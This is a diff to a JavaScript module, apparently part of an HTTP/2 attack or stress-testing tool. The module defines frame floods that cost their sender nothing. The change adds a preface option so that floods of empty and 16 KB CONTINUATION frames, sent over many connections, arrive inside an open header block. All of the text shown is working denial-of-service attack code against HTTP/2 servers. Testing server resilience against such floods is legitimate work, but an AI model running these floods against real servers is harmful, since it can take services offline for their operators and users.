@@ -1,6 +1,9 @@
 // Floods of frames that cost their sender nothing.
 import { Buffer } from "node:buffer";
-import { ACK, END_HEADERS, frame, headers, request, settings, Type, uint32 } from "../frames.mjs";
+import { ACK, END_HEADERS, frame, headers, PREFACE, request, settings, Type, uint32 } from "../frames.mjs";
+
+/** For who is in the middle of a header block, where no other frame may come. */
+const IN_BLOCK = { quiet: true, preface: Buffer.concat([PREFACE, settings(), frame(Type.SETTINGS, ACK, 0)]) };
 
 const flood = (bytes, times = 2_000) => {
   const all = Buffer.concat(new Array(times).fill(bytes));
@@ -50,7 +53,7 @@ export default [
     says: "CONTINUATION without content",
     run: (attack) => {
       const all = Buffer.concat(new Array(2_000).fill(frame(Type.CONTINUATION, 0, 1)));
-      return attack.flood((peer) => peer.nextId === 1 ? frame(Type.HEADERS, 0, peer.take()) : all);
+      return attack.flood((peer) => peer.nextId === 1 ? frame(Type.HEADERS, 0, peer.take()) : all, IN_BLOCK);
     },
   },
   {
@@ -62,7 +65,7 @@ export default [
       return attack.crowd(200, async (peer) => {
         await peer.write(frame(Type.HEADERS, 0, peer.take(), block));
         for (let i = 0; i < 14; i++) await peer.write(frame(Type.CONTINUATION, 0, 1, filler));
-      });
+      }, IN_BLOCK);
     },
   },
   {
@@ -72,7 +75,10 @@ export default [
       const filler = Buffer.concat(
         new Array(8).fill(frame(Type.CONTINUATION, 0, 1, Buffer.alloc(16_384, 0x82))),
       );
-      return attack.flood((peer) => peer.nextId === 1 ? frame(Type.HEADERS, 0, peer.take()) : filler);
+      return attack.flood(
+        (peer) => peer.nextId === 1 ? frame(Type.HEADERS, 0, peer.take()) : filler,
+        IN_BLOCK,
+      );
     },
   },
   {
